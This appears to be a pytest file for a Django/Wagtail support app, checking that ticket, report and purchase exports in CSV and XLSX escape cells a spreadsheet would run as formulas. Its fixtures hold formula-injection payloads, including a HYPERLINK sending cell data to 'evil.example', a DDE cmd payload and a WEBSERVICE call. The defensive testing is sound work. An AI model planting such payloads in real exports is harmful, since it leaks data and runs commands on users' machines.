"""Formula injection (issue 13, point 14): no export of the app (queue, reports, purchases; CSV and XLSX)
holds a cell a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import (
    MessageFactory,
    PurchaseFactory,
    SupportedProductFactory,
    TicketFactory,
    UserFactory,
)
from wagtail_support.exports import neutralise

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"help")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
]


@pytest.fixture
def admin_client(client):
    client.force_login(UserFactory(username="root", is_superuser=True, is_staff=True))
    return client


def csv_cells(response):
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode()
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def xlsx_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


def assert_no_formula(cells, typed):
    texts = [str(cell) for cell in cells if cell is not None]
    assert not [cell for cell in texts if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for value in typed:
        assert "'" + value in texts  # kept, shown as text


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_queue_export_holds_no_live_formula(admin_client, export):
    for title in FORMULAS:
        MessageFactory(ticket=TicketFactory(title=title))

    response = admin_client.get(reverse("wagtail_support_tickets:index") + f"?export={export}")

    assert response.status_code == 200
    assert_no_formula((csv_cells if export == "csv" else xlsx_cells)(response), FORMULAS)


def test_the_report_export_holds_no_live_formula(admin_client):
    product = SupportedProductFactory(name='=WEBSERVICE("http://evil.example")')
    MessageFactory(ticket=TicketFactory(product=product))

    response = admin_client.get(reverse("wagtail_support_reports:index") + "?export=csv")

    assert_no_formula(csv_cells(response), [product.name])


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_purchases_export_holds_no_live_formula(admin_client, export):
    PurchaseFactory(name="@SUM(1)", external_id="=1+1")

    response = admin_client.get(reverse("wagtail_support_purchases:index") + f"?export={export}")

    assert response.status_code == 200
    assert_no_formula((csv_cells if export == "csv" else xlsx_cells)(response), ["@SUM(1)", "=1+1"])


def test_numbers_and_plain_text_are_left_alone():
    assert [neutralise(v) for v in (-3, 2.5, "Ann", "", None, "a=b")] == [-3, 2.5, "Ann", "", None, "a=b"]
